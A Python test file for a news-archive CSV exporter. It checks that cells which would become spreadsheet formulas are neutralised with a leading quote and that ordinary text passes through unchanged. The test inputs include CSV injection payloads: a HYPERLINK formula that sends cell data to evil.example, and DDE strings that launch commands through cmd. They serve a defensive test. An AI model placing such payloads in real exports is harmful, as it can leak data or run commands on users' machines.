"""CSV export is safe to open in a spreadsheet: no archived text becomes a formula (OWASP, "CSV
Injection"), and the rest of the text is exported unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from newsvault.export import write_csv


def _export(**fields: object) -> dict[str, str]:
    out = io.StringIO(newline="")
    write_csv([{"url": "http://127.0.0.1/a", **fields}], out)
    return next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_be_a_formula_is_prefixed_with_a_quote(title: str) -> None:
    row = _export(title=title, authors=[title], text=title)
    for cell in (row["title"], row["authors"], row["text"]):
        assert cell == "'" + title


def test_ordinary_text_and_numbers_are_unchanged() -> None:
    row = _export(title="Council votes 7-2", text="A = B, said the minister.", revisions=3)
    assert row["title"] == "Council votes 7-2"
    assert row["text"] == "A = B, said the minister."
    assert row["revisions"] == "3"
